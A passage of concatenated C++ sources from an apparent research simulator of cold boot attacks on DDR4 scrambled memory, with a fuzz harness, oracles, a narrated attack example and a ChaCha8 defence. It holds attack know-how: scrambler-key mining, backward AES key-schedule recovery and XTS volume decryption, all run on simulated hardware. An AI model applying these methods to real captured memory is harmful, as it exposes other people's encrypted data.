          std::string_view &value)
{
    if (rest.substr(0, key.size()) != key ||
        rest.size() <= key.size() || rest[key.size()] != '=')
        return false;
    rest.remove_prefix(key.size() + 1);
    size_t colon = rest.find(':');
    value = rest.substr(0, colon);
    rest.remove_prefix(colon == std::string_view::npos ? rest.size()
                                                       : colon + 1);
    return true;
}

template <typename T>
bool
parseInt(std::string_view text, T &out)
{
    if (text.empty())
        return false;
    auto [ptr, ec] = std::from_chars(
        text.data(), text.data() + text.size(), out);
    return ec == std::errc() && ptr == text.data() + text.size();
}

} // anonymous namespace

FuzzCaseParams
reduceViolation(const Oracle &oracle, const FuzzCaseParams &params)
{
    auto violates = [&](const FuzzCaseParams &p) {
        return oracle.run(p).violation;
    };

    // Candidate ladder, smallest first: every (scale, energy) pair
    // with scale <= params.scale and energy from a short descending
    // ladder. The first violating candidate wins, so the result is
    // deterministic and at most a few dozen runs are spent.
    std::vector<uint32_t> energies;
    for (uint32_t e : {0u, 1u, 2u, params.energy / 4,
                       params.energy / 2, params.energy}) {
        if (e <= params.energy &&
            (energies.empty() || e > energies.back()))
            energies.push_back(e);
    }
    for (uint32_t scale = 0; scale <= params.scale; ++scale) {
        for (uint32_t energy : energies) {
            FuzzCaseParams candidate{params.seed, energy, scale};
            if (candidate.energy == params.energy &&
                candidate.scale == params.scale)
                return params; // reached the original - no shrink
            if (violates(candidate))
                return candidate;
        }
    }
    return params;
}

std::string
reproducerLine(std::string_view oracle, const FuzzCaseParams &params)
{
    std::string line = "oracle=";
    line += oracle;
    line += ":seed=" + std::to_string(params.seed);
    line += ":energy=" + std::to_string(params.energy);
    line += ":scale=" + std::to_string(params.scale);
    return line;
}

std::optional<std::pair<std::string, FuzzCaseParams>>
parseReproducer(std::string_view line)
{
    // Trim surrounding whitespace so corpus lines parse as-is.
    while (!line.empty() && (line.front() == ' ' ||
                             line.front() == '\t'))
        line.remove_prefix(1);
    while (!line.empty() &&
           (line.back() == ' ' || line.back() == '\t' ||
            line.back() == '\r' || line.back() == '\n'))
        line.remove_suffix(1);

    std::string_view oracle, seed, energy, scale;
    if (!takeField(line, "oracle", oracle) ||
        !takeField(line, "seed", seed) ||
        !takeField(line, "energy", energy) ||
        !takeField(line, "scale", scale) || !line.empty() ||
        oracle.empty())
        return std::nullopt;

    FuzzCaseParams params;
    if (!parseInt(seed, params.seed) ||
        !parseInt(energy, params.energy) ||
        !parseInt(scale, params.scale))
        return std::nullopt;
    return std::make_pair(std::string(oracle), params);
}

std::optional<OracleResult>
runReproducer(std::string_view line)
{
    auto parsed = parseReproducer(line);
    if (!parsed)
        return std::nullopt;
    const Oracle *oracle = findOracle(parsed->first);
    if (!oracle)
        return std::nullopt;
    return oracle->run(parsed->second);
}

std::string
gtestSnippet(std::string_view oracle, const FuzzCaseParams &params)
{
    // CamelCase the kebab-case oracle name for the test identifier.
    std::string camel;
    bool upper = true;
    for (char c : oracle) {
        if (c == '-') {
            upper = true;
            continue;
        }
        camel += upper ? static_cast<char>(c - 'a' + 'A') : c;
        upper = false;
    }
    std::string line = reproducerLine(oracle, params);
    std::string out;
    out += "TEST(FuzzRegression, " + camel + "Seed" +
           std::to_string(params.seed) + ")\n";
    out += "{\n";
    out += "    auto res = coldboot::fuzz::runReproducer(\n";
    out += "        \"" + line + "\");\n";
    out += "    ASSERT_TRUE(res.has_value());\n";
    out += "    EXPECT_FALSE(res->violation) << res->message;\n";
    out += "}\n";
    return out;
}

} // namespace coldboot::fuzz
