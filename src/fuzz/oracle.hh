/**
 * @file
 * Differential oracles - the named properties the fuzzing harness
 * drives adversarial inputs through.
 *
 * An oracle is a stateless, thread-safe predicate over a fuzz case:
 * given the case parameters (seed, mutation energy, input scale) it
 * deterministically generates inputs, exercises one of the delicate
 * invariants of the scrambler/miner/decay stack, and reports either
 * "holds" or a violation with a human-readable message. Oracles also
 * emit *coverage features* - small integers describing which
 * behaviours the case reached (litmus placement buckets, mined-key
 * counts, backend fallbacks, ...). The harness uses fresh features to
 * decide which seeds earn extra mutation energy (coverage-guided
 * lite), and the per-oracle feature universe doubles as an assertion
 * that the fuzzer actually explores distinct behaviours rather than
 * re-running one path.
 *
 * The oracle catalogue (DESIGN.md §10 documents each in detail):
 *
 *   scramble-roundtrip        scramble ∘ descramble = identity on
 *                             DDR3/DDR4 across seeds/channels/lines
 *   reboot-xor-factoring      DDR3 two-boot XOR collapses to one
 *                             universal key; DDR4's does not
 *   scrambler-litmus-diff     the optimized byte-pair litmus score
 *                             equals a naive from-the-paper rescore
 *   aes-litmus-brute          AES litmus completeness (planted
 *                             schedule blocks are found at a
 *                             congruent placement) and soundness
 *                             (accepted placements re-verify through
 *                             the schedule recurrence)
 *   aes-schedule-inverse      forward ∘ backward key expansion is the
 *                             identity at every anchor and key size
 *   decay-monotone            decay only moves bits toward ground
 *                             state, never back
 *   miner-planted-keys        KeyMiner recovers planted scrambler
 *                             keys through a decay sweep
 *   search-planted-schedule   AES search soundness (any recovered key
 *                             equals the planted master) and
 *                             completeness at zero decay
 *   dump-backend-equality     mmap vs buffered vs memory DumpSource
 *                             byte equality on mutated dump files
 *   parallel-fingerprint      mine/search/pipeline results are
 *                             byte-identical across worker counts
 *   simd-vs-scalar            every usable SIMD kernel backend is
 *                             bit-identical to the scalar reference
 *                             on hostile lengths and alignments
 */

#ifndef COLDBOOT_FUZZ_ORACLE_HH
#define COLDBOOT_FUZZ_ORACLE_HH

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

namespace coldboot::fuzz
{

/**
 * Parameters of one fuzz case. The full case is a pure function of
 * this struct (see fuzz_rng.hh).
 */
struct FuzzCaseParams
{
    /** Derived case seed (deriveCaseSeed output, not the base seed). */
    uint64_t seed = 0;
    /** Mutation budget: how many byte-level mutations to apply. */
    uint32_t energy = 4;
    /** Input-size class: working sets scale as 64 KiB << scale. */
    uint32_t scale = 0;
};

/** Outcome of running one oracle on one case. */
struct OracleResult
{
    /** True when the property was violated. */
    bool violation = false;
    /** Deterministic one-line diagnosis (empty when ok). */
    std::string message;
    /**
     * Coverage features reached by this case (oracle-local ids; the
     * harness namespaces them per oracle).
     */
    std::vector<uint32_t> features;

    /** Record a reached behaviour. */
    void
    feature(uint32_t id)
    {
        features.push_back(id);
    }

    /** Flag a violation (first message wins). */
    void
    fail(std::string why)
    {
        if (!violation)
            message = std::move(why);
        violation = true;
    }
};

/**
 * One registered differential oracle. Implementations are stateless:
 * run() may be called concurrently from any number of threads.
 */
class Oracle
{
  public:
    virtual ~Oracle() = default;

    /** Stable kebab-case name (CLI filter / corpus / report key). */
    virtual const char *name() const = 0;

    /** One-line description for --list and the campaign report. */
    virtual const char *description() const = 0;

    /**
     * Relative cost class: 1 = cheap (run every seed), larger N =
     * run every N-th base seed under the smoke profile (the full
     * profile always runs every seed). Keeps the smoke campaign
     * inside its CI budget without dropping any oracle entirely.
     */
    virtual unsigned smokeStride() const { return 1; }

    /** Evaluate the property on one deterministic case. */
    virtual OracleResult run(const FuzzCaseParams &params) const = 0;
};

/**
 * The fixed-order oracle registry (construction order = report
 * order). The returned pointers live for the process lifetime.
 */
const std::vector<const Oracle *> &allOracles();

/** Look up an oracle by name; nullptr when unknown. */
const Oracle *findOracle(std::string_view name);

} // namespace coldboot::fuzz

#endif // COLDBOOT_FUZZ_ORACLE_HH
