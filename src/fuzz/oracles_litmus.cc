/**
 * @file
 * Litmus-layer oracles: the scrambler-key byte-pair invariants and
 * the AES key-schedule litmus, each checked differentially against an
 * independent from-the-paper re-implementation or against the
 * schedule recurrence itself.
 */

#include <algorithm>
#include <array>
#include <bit>
#include <cstring>
#include <vector>

#include "attack/litmus.hh"
#include "crypto/aes.hh"
#include "fuzz/dump_builder.hh"
#include "fuzz/fuzz_rng.hh"
#include "fuzz/mutator.hh"
#include "fuzz/oracles.hh"
#include "memctrl/scrambler.hh"

namespace coldboot::fuzz
{

namespace
{

using crypto::AesKeySize;

/**
 * Independent re-statement of the paper's Section III-B byte-pair
 * invariants, written bit-by-bit from the equation list rather than
 * via packed 16-bit lanes, so a lane-packing or endianness bug in the
 * optimized scorer cannot hide.
 */
unsigned
naiveLitmusScore(std::span<const uint8_t> block)
{
    // Each equation XORs four little-endian 16-bit words starting at
    // the given byte offsets inside a 16-byte sub-block; a pristine
    // DDR4 key zeroes all four equations on all four sub-blocks.
    static constexpr unsigned eqs[4][4] = {
        {2, 4, 10, 12},
        {0, 6, 8, 14},
        {0, 4, 8, 12},
        {0, 2, 8, 10},
    };
    unsigned errors = 0;
    for (unsigned base = 0; base < 64; base += 16) {
        for (const auto &eq : eqs) {
            for (unsigned bit = 0; bit < 16; ++bit) {
                unsigned acc = 0;
                for (unsigned term = 0; term < 4; ++term) {
                    unsigned off = base + eq[term] + bit / 8;
                    acc ^= (block[off] >> (bit % 8)) & 1;
                }
                errors += acc;
            }
        }
    }
    return errors;
}

/**
 * scrambler-litmus-diff: the optimized lane-packed litmus scorer
 * agrees with the naive bit-level rescore on pristine keys (score 0),
 * decayed keys, mutated keys and random blocks, and the boolean
 * litmus is exactly `score <= budget`.
 */
class ScramblerLitmusDiffOracle final : public Oracle
{
  public:
    const char *name() const override
    {
        return "scrambler-litmus-diff";
    }

    const char *
    description() const override
    {
        return "optimized byte-pair litmus score equals a naive "
               "from-the-paper bit-level rescore";
    }

    OracleResult
    run(const FuzzCaseParams &params) const override
    {
        OracleResult res;
        CaseRng rng(params.seed);
        memctrl::Ddr4Scrambler scrambler(rng.next(),
                                         static_cast<unsigned>(
                                             rng.below(4)));

        const unsigned trials = 8 + params.energy;
        for (unsigned t = 0; t < trials; ++t) {
            std::array<uint8_t, 64> block;
            unsigned cls = static_cast<unsigned>(rng.below(3));
            if (cls == 0) {
                // A real pool key, possibly mutated.
                scrambler.poolKey(
                    static_cast<unsigned>(rng.below(4096)),
                    block.data());
            } else if (cls == 1) {
                // A decayed pool key.
                scrambler.poolKey(
                    static_cast<unsigned>(rng.below(4096)),
                    block.data());
                applyTargetDecay(block, 0.01 + 0.05 * rng.uniform(),
                                 rng.next());
            } else {
                rng.fill(block);
            }
            if (rng.chance(0.5))
                mutateBytes(block, rng, 1 + params.energy / 2);

            unsigned fast = attack::scramblerKeyLitmusScore(block);
            unsigned naive = naiveLitmusScore(block);
            if (fast != naive) {
                res.fail("litmus score mismatch: optimized " +
                         std::to_string(fast) + " vs naive " +
                         std::to_string(naive));
                return res;
            }
            unsigned budget =
                static_cast<unsigned>(rng.below(192));
            if (attack::scramblerKeyLitmus(block, budget) !=
                (fast <= budget)) {
                res.fail("boolean litmus disagrees with its score");
                return res;
            }
            res.feature(cls);
            res.feature(10 + std::min(fast / 16, 16u));
        }

        // Pristine pool keys must score exactly zero - this is the
        // property that makes zero-filled lines minable at all.
        for (unsigned t = 0; t < 4; ++t) {
            std::array<uint8_t, 64> key;
            scrambler.poolKey(static_cast<unsigned>(rng.below(4096)),
                              key.data());
            if (attack::scramblerKeyLitmusScore(key) != 0) {
                res.fail("pristine DDR4 pool key has nonzero litmus "
                         "score");
                return res;
            }
        }
        return res;
    }
};

/**
 * aes-litmus-brute: completeness - a clean 64-byte window cut from a
 * real expanded schedule is accepted at a placement congruent to the
 * true one; soundness - whatever placement the litmus accepts (on any
 * input, including mutated and random blocks) re-verifies through an
 * independent run of the schedule recurrence with exactly the
 * reported error count.
 */
class AesLitmusBruteOracle final : public Oracle
{
  public:
    const char *name() const override { return "aes-litmus-brute"; }

    const char *
    description() const override
    {
        return "AES litmus finds planted schedule windows at a "
               "congruent placement and every accepted placement "
               "re-verifies through the recurrence";
    }

    OracleResult
    run(const FuzzCaseParams &params) const override
    {
        OracleResult res;
        CaseRng rng(params.seed);
        const AesKeySize ks = rng.pick({AesKeySize::Aes128,
                                        AesKeySize::Aes192,
                                        AesKeySize::Aes256});
        const unsigned nk = crypto::aesNk(ks);
        res.feature(nk);

        std::vector<uint8_t> master(static_cast<size_t>(ks));
        rng.fill(master);
        auto schedule = crypto::aesExpandKey(master);
        const unsigned placements = attack::aesLitmusPlacements(ks);

        // Completeness on a clean window.
        unsigned placement =
            static_cast<unsigned>(rng.below(placements));
        std::array<uint8_t, 64> block;
        std::memcpy(block.data(), &schedule[placement * 16], 64);
        auto hit = attack::aesKeyLitmus(block, ks, 0, 12);
        if (!hit) {
            res.fail("clean schedule window rejected by the litmus");
            return res;
        }
        // Rcon values differ by only a bit or two, so the litmus pins
        // the placement only up to congruence mod lcm(4, nk) words.
        unsigned congruence = std::max(4u, nk); // lcm for nk=4,6,8
        if (nk == 6)
            congruence = 12;
        if (hit->start_word % congruence !=
            (placement * 4) % congruence) {
            res.fail("litmus placed a clean window at a "
                     "non-congruent start word " +
                     std::to_string(hit->start_word));
            return res;
        }
        res.feature(32 + placement);

        // Soundness on arbitrary inputs.
        const unsigned trials = 4 + params.energy;
        for (unsigned t = 0; t < trials; ++t) {
            std::array<uint8_t, 64> probe;
            if (rng.chance(0.5)) {
                unsigned p =
                    static_cast<unsigned>(rng.below(placements));
                std::memcpy(probe.data(), &schedule[p * 16], 64);
                applyTargetDecay(probe, 0.02 * rng.uniform(),
                                 rng.next());
                mutateBytes(probe, rng, params.energy / 2);
            } else {
                rng.fill(probe);
            }
            unsigned max_total =
                static_cast<unsigned>(rng.range(0, 96));
            unsigned max_per = static_cast<unsigned>(
                rng.range(4, 16));
            auto got = attack::aesKeyLitmus(probe, ks, max_total,
                                            max_per);
            if (!got) {
                res.feature(64);
                continue;
            }
            if (got->bit_errors > max_total) {
                res.fail("litmus accepted a placement above its own "
                         "budget");
                return res;
            }
            // Independent recount: slide the recurrence over the
            // observed words at the accepted placement.
            uint32_t words[16];
            for (unsigned i = 0; i < 16; ++i)
                words[i] =
                    crypto::aesWordFromBytes(&probe[4 * i]);
            unsigned recount = 0;
            bool capped = false;
            for (unsigned i = nk; i < 16; ++i) {
                uint32_t pred = crypto::aesScheduleStep(
                    words[i - 1], words[i - nk],
                    got->start_word + i, nk);
                unsigned check = static_cast<unsigned>(
                    std::popcount(pred ^ words[i]));
                capped = capped || check > max_per;
                recount += check;
            }
            if (capped || recount != got->bit_errors) {
                res.fail("accepted placement does not re-verify: "
                         "recount " +
                         std::to_string(recount) + " vs reported " +
                         std::to_string(got->bit_errors));
                return res;
            }
            res.feature(65);
        }
        return res;
    }
};

/**
 * aes-schedule-inverse: forward expansion, window continuation and
 * backward reconstruction are mutually consistent at every anchor -
 * in particular, running backward from any clean mid-schedule window
 * recovers the raw master key, which is the algebraic heart of the
 * whole attack.
 */
class AesScheduleInverseOracle final : public Oracle
{
  public:
    const char *name() const override
    {
        return "aes-schedule-inverse";
    }

    const char *
    description() const override
    {
        return "forward/backward AES key expansion are inverse at "
               "every anchor and key size";
    }

    OracleResult
    run(const FuzzCaseParams &params) const override
    {
        OracleResult res;
        CaseRng rng(params.seed);
        const AesKeySize ks = rng.pick({AesKeySize::Aes128,
                                        AesKeySize::Aes192,
                                        AesKeySize::Aes256});
        const unsigned nk = crypto::aesNk(ks);
        const unsigned total_words = static_cast<unsigned>(
            crypto::aesScheduleBytes(ks) / 4);
        res.feature(nk);

        std::vector<uint8_t> master(static_cast<size_t>(ks));
        rng.fill(master);
        auto schedule = crypto::aesExpandKey(master);
        std::vector<uint32_t> words(total_words);
        for (unsigned i = 0; i < total_words; ++i)
            words[i] = crypto::aesWordFromBytes(&schedule[4 * i]);

        const unsigned trials = 2 + params.energy / 2;
        for (unsigned t = 0; t < trials; ++t) {
            // Continuation from a random window reproduces the tail.
            unsigned i0 = static_cast<unsigned>(
                rng.range(nk, total_words - 1));
            auto fwd = crypto::aesScheduleContinue(
                std::span<const uint32_t>(&words[i0 - nk], nk), i0,
                total_words - i0, nk);
            for (unsigned i = 0; i < fwd.size(); ++i) {
                if (fwd[i] != words[i0 + i]) {
                    res.fail("forward continuation diverges at word " +
                             std::to_string(i0 + i));
                    return res;
                }
            }

            // Backward from a random window reproduces the head -
            // including w[0..nk), the raw master key.
            unsigned j0 = static_cast<unsigned>(
                rng.range(0, total_words - nk));
            auto back = crypto::aesScheduleBackward(
                std::span<const uint32_t>(&words[j0], nk), j0, j0,
                nk);
            for (unsigned i = 0; i < back.size(); ++i) {
                if (back[i] != words[i]) {
                    res.fail("backward reconstruction diverges at "
                             "word " +
                             std::to_string(i));
                    return res;
                }
            }
            res.feature(16 + i0 % 8);
            res.feature(24 + j0 % 8);
        }

        // Round-trip on arbitrary (non-schedule) windows: stepping
        // nk words forward from a random window and then backward
        // from the result must return the original window - the
        // recurrence is invertible for *any* bit pattern, not just
        // real schedules.
        std::vector<uint32_t> window(nk);
        for (auto &w : window)
            w = static_cast<uint32_t>(rng.next());
        unsigned anchor = static_cast<unsigned>(rng.range(nk, 64));
        auto fwd =
            crypto::aesScheduleContinue(window, anchor, nk, nk);
        // fwd holds w[anchor .. anchor+nk); backward from it yields
        // w[anchor-nk .. anchor) - exactly `window`.
        auto back = crypto::aesScheduleBackward(fwd, anchor, nk, nk);
        for (unsigned i = 0; i < nk; ++i) {
            if (back[i] != window[i]) {
                res.fail("forward-then-backward round trip lost the "
                         "window");
                return res;
            }
        }
        return res;
    }
};

const ScramblerLitmusDiffOracle litmus_diff_oracle;
const AesLitmusBruteOracle aes_brute_oracle;
const AesScheduleInverseOracle inverse_oracle;

} // anonymous namespace

void
registerLitmusOracles(std::vector<const Oracle *> &out)
{
    out.push_back(&litmus_diff_oracle);
    out.push_back(&aes_brute_oracle);
    out.push_back(&inverse_oracle);
}

} // namespace coldboot::fuzz
