/**
 * @file
 * The fuzz campaign harness: walks a base-seed range through the
 * oracle catalogue, coverage-guided-lite.
 *
 * Phase 1 runs one case per (oracle, base seed); the per-case
 * coverage features are merged *in ascending base-seed order* (the
 * same ordered-reduction trick the dump scans use, DESIGN.md §9), and
 * any seed that discovered a feature no earlier seed reached is
 * "interesting". Phase 2 re-runs the interesting (oracle, seed)
 * pairs as child cases - same base seed, bumped round, doubled
 * mutation energy - to push harder on the inputs that reached new
 * behaviour. Because interestingness is decided after the ordered
 * merge and every case is a pure function of its parameters, the
 * campaign report is byte-identical for any worker count.
 *
 * Violations are reduced (reducer.hh) to a minimal one-line seed
 * reproducer before reporting. No wall clock anywhere: two runs of
 * the same campaign produce identical report JSON.
 */

#ifndef COLDBOOT_FUZZ_HARNESS_HH
#define COLDBOOT_FUZZ_HARNESS_HH

#include <cstdint>
#include <string>
#include <vector>

#include "fuzz/oracle.hh"

namespace coldboot::fuzz
{

/** Campaign-wide configuration. */
struct CampaignConfig
{
    /** Base-seed range [seed_begin, seed_end). */
    uint64_t seed_begin = 0;
    uint64_t seed_end = 100;

    /**
     * Smoke honours each oracle's smokeStride() (heavy oracles run
     * on every N-th base seed); Full runs every oracle on every
     * seed with doubled phase-1 energy.
     */
    enum class Profile { Smoke, Full };
    Profile profile = Profile::Smoke;

    /** Restrict to these oracle names (empty = the whole catalogue). */
    std::vector<std::string> oracle_filter;

    /** Phase-1 mutation energy (phase 2 doubles it). */
    uint32_t energy = 4;
    /** Input-size class for every case (64 KiB << scale stacks). */
    uint32_t scale = 0;

    /**
     * Worker threads: 0 = the shared global exec::ThreadPool, 1 =
     * serial in-line, N > 1 = a dedicated pool. The report is
     * byte-identical in every mode.
     */
    unsigned threads = 0;

    /** Reduce each violation to a minimal reproducer (costs extra
     *  oracle runs on failing seeds only). */
    bool reduce_violations = true;
};

/** One reported property violation. */
struct ViolationReport
{
    std::string oracle;
    /** Parameters of the *reduced* case (== original when reduction
     *  is disabled or found nothing smaller). */
    FuzzCaseParams params;
    /** Parameters of the originally failing case. */
    FuzzCaseParams original;
    /** The oracle's diagnosis. */
    std::string message;
    /** One-line reproducer (reducer.hh format). */
    std::string reproducer;
};

/** Per-oracle campaign tally. */
struct OracleCampaignStats
{
    std::string name;
    std::string description;
    uint64_t cases = 0;
    uint64_t phase2_cases = 0;
    uint64_t violations = 0;
    /** Distinct coverage features reached across both phases. */
    uint64_t distinct_features = 0;
    /** Base seeds that discovered at least one new feature. */
    uint64_t interesting_seeds = 0;
};

/** The campaign result. */
struct CampaignReport
{
    CampaignConfig config;
    std::vector<OracleCampaignStats> oracles;
    /** At most maxStoredViolations entries, campaign order. */
    std::vector<ViolationReport> violations;
    uint64_t total_cases = 0;
    uint64_t total_violations = 0;
    /** True when more violations occurred than were stored. */
    bool violations_truncated = false;

    static constexpr size_t maxStoredViolations = 32;

    /**
     * Deterministic JSON rendering (schema
     * `coldboot-fuzz-campaign-v1`): integers and strings only, no
     * timestamps, 64-bit seeds as decimal strings so no precision is
     * lost to double parsing.
     */
    std::string toJson() const;
};

/**
 * Run a campaign. Also mirrors the tallies into
 * obs::StatRegistry::global() under `fuzz.*`.
 */
CampaignReport runCampaign(const CampaignConfig &config);

} // namespace coldboot::fuzz

#endif // COLDBOOT_FUZZ_HARNESS_HH
