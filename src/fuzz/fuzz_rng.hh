/**
 * @file
 * Seed-addressed randomness for the fuzzing subsystem.
 *
 * Every fuzz case is fully determined by a (campaign seed, oracle
 * name, round) triple: deriveCaseSeed() mixes the three into the
 * 64-bit seed of a CaseRng, and everything the case does - input
 * sizes, mutation choices, planted artifacts - is drawn from that one
 * generator. No wall clock, no global state: replaying a seed
 * replays the case bit-for-bit (the `no-wallclock-in-sim` lint rule
 * enforces the same contract the simulation layers follow).
 */

#ifndef COLDBOOT_FUZZ_FUZZ_RNG_HH
#define COLDBOOT_FUZZ_FUZZ_RNG_HH

#include <cstdint>
#include <span>
#include <string_view>

#include "common/rng.hh"

namespace coldboot::fuzz
{

/** FNV-1a over a name - stable across platforms and runs. */
uint64_t hashName(std::string_view name);

/**
 * The seed a fuzz case runs under.
 *
 * @param base_seed Campaign-level seed (the CLI `--seed-range` walks
 *                  these).
 * @param oracle    Oracle name; distinct oracles at the same base
 *                  seed see unrelated streams.
 * @param round     Mutation-energy round (0 for phase-1 cases; the
 *                  coverage-guided phase derives child cases by
 *                  bumping the round).
 */
uint64_t deriveCaseSeed(uint64_t base_seed, std::string_view oracle,
                        uint64_t round);

/**
 * Per-case random stream: a Xoshiro256** with the drawing helpers
 * the mutators and oracles share.
 */
class CaseRng
{
  public:
    explicit CaseRng(uint64_t seed) : rng(seed) {}

    /** Next raw 64-bit draw. */
    uint64_t next() { return rng.next(); }

    /** Uniform integer in [0, bound); bound must be nonzero. */
    uint64_t below(uint64_t bound) { return rng.nextBelow(bound); }

    /** Uniform integer in [lo, hi] (inclusive bounds, lo <= hi). */
    uint64_t range(uint64_t lo, uint64_t hi)
    {
        return lo + rng.nextBelow(hi - lo + 1);
    }

    /** Uniform double in [0, 1). */
    double uniform() { return rng.nextDouble(); }

    /** Bernoulli trial. */
    bool chance(double p) { return rng.chance(p); }

    /** Fill a byte range with random data. */
    void fill(std::span<uint8_t> out) { rng.fillBytes(out); }

    /** Pick one element of a non-empty list. */
    template <typename T>
    T
    pick(std::initializer_list<T> options)
    {
        return *(options.begin() +
                 static_cast<ptrdiff_t>(below(options.size())));
    }

  private:
    Xoshiro256StarStar rng;
};

} // namespace coldboot::fuzz

#endif // COLDBOOT_FUZZ_FUZZ_RNG_HH
