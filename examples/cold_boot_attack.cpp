/**
 * @file
 * The paper's headline scenario as a narrated walkthrough: a locked
 * Skylake laptop with a mounted VeraCrypt-style volume is captured,
 * its DDR4 DIMM frozen and moved to the attacker's machine, and the
 * XTS master keys are mined out of the scrambled dump and used to
 * decrypt the volume.
 */

#include <cstdio>
#include <cstring>
#include <memory>
#include <vector>

#include "attack/attack_pipeline.hh"
#include "common/hex.hh"
#include "common/logging.hh"
#include "common/units.hh"
#include "crypto/xts.hh"
#include "dram/dram_module.hh"
#include "platform/coldboot.hh"
#include "platform/machine.hh"
#include "platform/workload.hh"
#include "volume/veracrypt_volume.hh"

using namespace coldboot;
using namespace coldboot::platform;
using namespace coldboot::attack;

int
main()
{
    setLogLevel(LogLevel::Warn); // quiet pipeline chatter

    // --- The victim: a busy machine with a mounted encrypted volume.
    std::printf("[victim] booting i5-6400 (Skylake, DDR4) with 4 MiB "
                "RAM...\n");
    Machine victim(cpuModelByName("i5-6400"), BiosConfig{}, 1, 42);
    victim.installDimm(0, std::make_shared<dram::DramModule>(
                              dram::Generation::DDR4, MiB(4),
                              dram::DecayParams{}, 43));
    victim.boot();
    fillWorkload(victim, {}, 44);

    auto volume_file =
        volume::VolumeFile::create("correct horse battery", 32, 45);
    auto mounted = volume::MountedVolume::mount(
        victim, volume_file, "correct horse battery", MiB(3) + 16);
    std::vector<uint8_t> secret(volume::sectorBytes, 0);
    const char *document = "Q3 acquisition target list: ...";
    std::memcpy(secret.data(), document, std::strlen(document));
    mounted->writeSector(11, secret);
    std::printf("[victim] volume mounted; secret written to sector "
                "11; machine left locked\n");

    // --- The attack: freeze, pull, transfer, dump.
    std::printf("[attack] spraying the DIMM to -25 C, pulling it, "
                "5 s transfer...\n");
    BiosConfig attacker_bios;
    attacker_bios.boot_pollution_bytes = KiB(64); // minimal dumper
    Machine attacker(cpuModelByName("i5-6600K"), attacker_bios, 1,
                     46);
    auto cold = coldBootTransfer(victim, attacker, 0);
    std::printf("[attack] dump captured through the attacker's own "
                "(enabled) scrambler;\n         %.2f%% of bits "
                "decayed in transit\n",
                100.0 * static_cast<double>(cold.bits_flipped) /
                    (static_cast<double>(cold.dump.size()) * 8));

    // --- Key recovery: mine scrambler keys, find the key tables.
    std::printf("[attack] mining scrambler keys and scanning for AES "
                "key schedules...\n");
    auto report = runColdBootAttack(cold.dump, {});
    std::printf("[attack] mined %zu candidate scrambler keys; "
                "recovered %zu AES-256 key table(s)\n",
                report.mined_keys.size(), report.recovered.size());

    if (report.xts_pairs.empty()) {
        std::printf("[attack] no XTS master key pair found - attack "
                    "failed\n");
        return 1;
    }
    const auto &keys = report.xts_pairs[0];
    std::printf("[attack] XTS master keys:\n  data : %s\n  tweak: "
                "%s\n",
                toHex({keys.data_key.data(), 32}).c_str(),
                toHex({keys.tweak_key.data(), 32}).c_str());

    // --- The endgame: decrypt the captured volume offline.
    crypto::XtsAes xts({keys.data_key.data(), 32},
                       {keys.tweak_key.data(), 32});
    std::vector<uint8_t> plain(volume::sectorBytes);
    xts.decryptSector(11, volume_file.sectorCiphertext(11), plain);
    std::printf("[attack] sector 11 decrypts to: \"%.31s\"\n",
                reinterpret_cast<const char *>(plain.data()));
    bool ok =
        std::memcmp(plain.data(), document, std::strlen(document)) ==
        0;
    std::printf("\n%s\n", ok ? "Cold boot attack SUCCEEDED."
                             : "Decryption mismatch.");
    return ok ? 0 : 1;
}
