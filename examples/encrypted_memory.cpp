/**
 * @file
 * The defence (Section IV): swap the scrambler for a ChaCha8
 * keystream engine and show that (1) software is unaffected, (2) the
 * cold boot attack collapses, and (3) the engine timing model says
 * the encryption costs zero exposed read latency.
 */

#include <cstdio>
#include <memory>
#include <vector>

#include "attack/attack_pipeline.hh"
#include "common/logging.hh"
#include "common/units.hh"
#include "dram/dram_module.hh"
#include "engine/cipher_engine.hh"
#include "engine/encrypted_controller.hh"
#include "engine/latency_sim.hh"
#include "platform/coldboot.hh"
#include "platform/machine.hh"
#include "platform/workload.hh"
#include "volume/veracrypt_volume.hh"

using namespace coldboot;
using namespace coldboot::platform;

int
main()
{
    setLogLevel(LogLevel::Warn);

    // A Skylake machine whose memory interface runs ChaCha8 instead
    // of the stock scrambler - a one-line change at build time.
    Machine victim(cpuModelByName("i5-6400"), BiosConfig{}, 1, 77,
                   engine::chachaEncryptionFactory(8));
    victim.installDimm(0, std::make_shared<dram::DramModule>(
                              dram::Generation::DDR4, MiB(4),
                              dram::DecayParams{}, 78));
    victim.boot();
    std::printf("[machine] booted with %s in place of the "
                "scrambler\n",
                victim.controller().scrambler(0).name());

    // (1) Functional transparency.
    fillWorkload(victim, {}, 79);
    std::vector<uint8_t> probe(64, 0xd1);
    victim.writePhys(MiB(2), probe);
    std::vector<uint8_t> back(64);
    victim.readPhys(MiB(2), back);
    std::printf("[machine] software read-back intact: %s\n",
                back == probe ? "yes" : "NO");

    auto vf = volume::VolumeFile::create("pw", 8, 80);
    auto mounted =
        volume::MountedVolume::mount(victim, vf, "pw", MiB(3) + 16);
    std::printf("[machine] encrypted volume mounted (keys cached in "
                "RAM as usual)\n");

    // (2) The attack collapses.
    BiosConfig attacker_bios;
    attacker_bios.boot_pollution_bytes = KiB(64);
    Machine attacker(cpuModelByName("i5-6600K"), attacker_bios, 1,
                     81);
    auto cold = coldBootTransfer(victim, attacker, 0);
    auto report = attack::runColdBootAttack(cold.dump, {});
    std::printf("[attack ] litmus-mined key candidates: %zu; AES key "
                "tables recovered: %zu\n",
                report.mined_keys.size(), report.recovered.size());
    std::printf("[attack ] cold boot attack %s\n",
                report.recovered.empty() ? "DEFEATED" : "succeeded?!");

    // (3) Zero-latency argument from the engine model.
    const auto &spec = engine::engineSpec(engine::CipherKind::ChaCha8);
    std::printf("\n[timing ] ChaCha8 engine: %.2f GHz, %d cycles per "
                "64 B -> %.2f ns pipeline\n",
                spec.max_freq_ghz, spec.cycles_per_line,
                psToNs(spec.pipelineDelayPs()));
    auto worst = engine::simulateBurst(spec, dram::ddr4_2400(),
                                       {1.0, 18});
    std::printf("[timing ] worst keystream latency under 18 "
                "back-to-back CAS: %.2f ns\n",
                psToNs(worst.max_keystream_latency_ps));
    std::printf("[timing ] minimum standard DDR4 CAS window: %.2f ns "
                "-> exposed latency: %.2f ns\n",
                psToNs(dram::ddr4MinCasPs()),
                psToNs(worst.max_window_exposure_ps));
    return report.recovered.empty() ? 0 : 1;
}
