/**
 * @file
 * The Section III-A analysis framework, replayed: extract a
 * scrambler's keystream with the reverse-cold-boot procedure,
 * discover the byte-pair invariants empirically, and confirm the
 * DDR3-vs-DDR4 behavioural differences the paper reports.
 *
